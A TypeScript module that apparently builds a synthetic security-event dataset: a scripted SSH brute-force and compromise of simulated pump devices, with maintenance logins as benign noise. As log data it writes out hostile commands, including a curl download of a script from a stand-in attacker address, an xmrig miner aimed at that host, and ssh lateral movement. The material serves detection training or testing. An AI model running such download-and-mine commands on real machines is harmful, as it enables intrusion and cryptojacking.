import { HOUR, MINUTE, SECOND, utc } from './clock.ts';
import { type Device, pump1, pump07, pump10 } from './devices.ts';
import { linuxLogin, type SignIn } from './events/login.ts';
import { linuxProcess } from './events/process.ts';
import { aggregation } from './events/window.ts';
import { createRandom, type Random } from './random.ts';
import { idSequence, type RawEvent } from './rawEvent.ts';
import { attackCommands, calibrationRuns, maintenanceRuns, type TimedRun } from './storyCommands.ts';

/** Where the guessing, the downloads and the mining pool are. */
export const attackerAddress = '203.0.113.9';

type Tell = (event: Omit<RawEvent, 'eventId' | 'type'> & Partial<Pick<RawEvent, 'type'>>) => RawEvent;

function signIns(tell: Tell, device: Device, list: readonly (SignIn & { at: number })[]): RawEvent[] {
  return list.map(({ at, ...signIn }) =>
    tell({ device, name: 'Login', category: 'Triggered', at, payload: linuxLogin(signIn) }),
  );
}

/** Failures from the attacker's address, a few seconds apart; the last one falls before `until`. */
function guesses(random: Random, from: number, until: number, count: number, names: readonly [string, ...string[]]) {
  const step = Math.floor((until - from) / count / SECOND);
  return Array.from({ length: count }, (_, i) => ({
    at: from + (i * step + random.int(0, step - 1)) * SECOND,
    userName: random.pick(names),
    processId: 30_000 + (i % 90),
    success: false,
    remoteAddress: attackerAddress,
  }));
}

function processes(tell: Tell, device: Device, runs: readonly TimedRun[]): RawEvent[] {
  return runs.map(({ at, hash, ...run }) =>
    tell({
      device,
      name: 'ProcessCreate',
      category: 'Triggered',
      at,
      payload: linuxProcess(run),
      extraDetails: { Hash: hash ?? '' },
    }),
  );
}

interface Connection {
  readonly at: number;
  readonly direction: 'In' | 'Out';
  readonly remoteAddress: string;
  readonly remotePort: string | 0;
  readonly executable: string;
  readonly commandLine: string;
  readonly hits: number;
}

function connections(tell: Tell, device: Device, list: readonly Connection[]): RawEvent[] {
  return list.map((c) =>
    tell({
      device,
      name: 'ConnectionCreate',
      category: 'Aggregated',
      at: c.at,
      payload: {
        Protocol: 'tcp',
        Direction: c.direction,
        RemoteAddress: c.remoteAddress,
        RemotePort: c.remotePort,
        Executable: c.executable,
        CommandLine: c.commandLine,
        ProcessId: 0,
        UserId: '0',
      },
      extraDetails: aggregation(device, c.at, c.hits),
    }),
  );
}

const sshd = {
  direction: 'In',
  remoteAddress: attackerAddress,
  remotePort: 0,
  executable: '/usr/sbin/sshd',
  commandLine: '/usr/sbin/sshd -D',
} as const;

function attackOnPump07(tell: Tell, random: Random): RawEvent[] {
  const attackHour = utc('2019-04-18T13:00:04Z');
  const evening = guesses(random, utc('2019-04-17T21:14:00Z'), utc('2019-04-17T21:40:00Z'), 46, [
    '(invalid user)',
    '(unknown user)',
    '(invalid user)',
    'root',
    'pi',
  ]);
  const noon = guesses(random, utc('2019-04-18T11:52:07Z'), utc('2019-04-18T12:01:40Z'), 118, [
    'pi',
    'pi',
    'pi',
    'root',
  ]);
  const success = { userName: 'pi', processId: 30_100, success: true, remoteAddress: attackerAddress };
  return [
    ...signIns(tell, pump07, evening),
    ...signIns(tell, pump07, noon),
    // One sign-in is two rows: the authentication and the session.
    ...signIns(tell, pump07, [
      { ...success, at: utc('2019-04-18T12:01:44Z') },
      { ...success, at: utc('2019-04-18T12:01:44Z'), operation: 'login' },
    ]),
    ...processes(tell, pump07, attackCommands),
    ...connections(tell, pump07, [
      { ...sshd, at: utc('2019-04-17T22:00:04Z'), hits: 46 },
      { ...sshd, at: utc('2019-04-18T12:00:04Z'), hits: 95 },
      { ...sshd, at: attackHour, hits: 24 },
      {
        at: attackHour,
        direction: 'Out',
        remoteAddress: attackerAddress,
        remotePort: '80',
        executable: '/usr/bin/curl',
        commandLine: `curl -s http://${attackerAddress}/x.sh -o /tmp/x`,
        hits: 2,
      },
      {
        at: attackHour,
        direction: 'Out',
        remoteAddress: attackerAddress,
        remotePort: '4444',
        executable: '/tmp/.x/xmrig',
        commandLine: `/tmp/.x/xmrig -o stratum+tcp://${attackerAddress}:4444 -u invented-wallet`,
        hits: 41,
      },
      {
        at: attackHour,
        direction: 'Out',
        remoteAddress: pump1.address,
        remotePort: '22',
        executable: '/usr/bin/ssh',
        commandLine: `ssh pi@${pump1.address}`,
        hits: 1,
      },
    ]),
    tell({
      device: pump07,
      name: 'Diagnostic',
      category: 'Triggered',
      type: 'Diagnostic',
      at: utc('2019-04-18T13:02:10Z'),
      payload: { Severity: 'Error', Message: 'Failed to read auditd', ProcessId: 811, ThreadId: 840 },
    }),
  ];
}

/** The same address tried another device the evening before, and reached a third one through the first. */
function spread(tell: Tell, random: Random): RawEvent[] {
  const tried = guesses(random, utc('2019-04-17T20:41:00Z'), utc('2019-04-17T20:52:00Z'), 12, ['root', 'admin', 'pi']);
  const hour = utc('2019-04-18T13:00:04Z');
  const download = `curl -s http://${attackerAddress}/x.sh -o /tmp/x`;
  return [
    ...signIns(tell, pump10, tried),
    ...signIns(tell, pump1, [
      {
        at: utc('2019-04-18T12:40:12Z'),
        userName: 'pi',
        processId: 30_210,
        success: true,
        operation: 'login',
        remoteAddress: pump07.address,
      },
    ]),
    tell({
      device: pump1,
      name: 'ProcessCreate',
      category: 'Aggregated',
      at: hour,
      payload: linuxProcess({
        executable: '/usr/bin/curl',
        commandLine: download,
        userId: '1000',
        processId: 0,
        parentProcessId: 0,
      }),
      extraDetails: { Hash: '', ...aggregation(pump1, hour, 1) },
    }),
    ...connections(tell, pump1, [
      {
        at: hour,
        direction: 'Out',
        remoteAddress: attackerAddress,
        remotePort: '80',
        executable: '/usr/bin/curl',
        commandLine: download,
        hits: 1,
      },
    ]),
  ];
}

/** What is benign and still worth a look: maintenance visits, and a failing sign-in over IPv6 elsewhere. */
function maintenance(tell: Tell): RawEvent[] {
  const visits = [utc('2019-04-10T08:30:00Z'), utc('2019-04-16T08:30:00Z'), utc('2019-04-18T07:05:00Z')];
  const visit = { userName: 'maint', success: true, remoteAddress: '198.51.100.20' };
  return [
    ...signIns(
      tell,
      pump07,
      visits.flatMap((at, i) => [
        { ...visit, at, processId: 30_300 + i, operation: 'login' },
        { userName: 'maint', success: true, at: at + 4 * MINUTE, processId: 30_310 + i, executable: '/usr/bin/sudo' },
      ]),
    ),
    ...processes(tell, pump07, visits.flatMap(maintenanceRuns)),
    ...processes(tell, pump07, calibrationRuns(utc('2019-04-06T01:00:00Z'), HOUR)),
  ];
}

/** Everything on the devices that does not depend on how much noise there is, in order of time. */
export function storyEvents(seed: number): readonly RawEvent[] {
  const nextId = idSequence('5a000000');
  const tell: Tell = (event) => ({ type: 'Security', ...event, eventId: nextId() });
  const random = createRandom(seed, 'story');
  const events = [...attackOnPump07(tell, random), ...spread(tell, random), ...maintenance(tell)];
  return events.sort((a, b) => a.at - b.at);
}
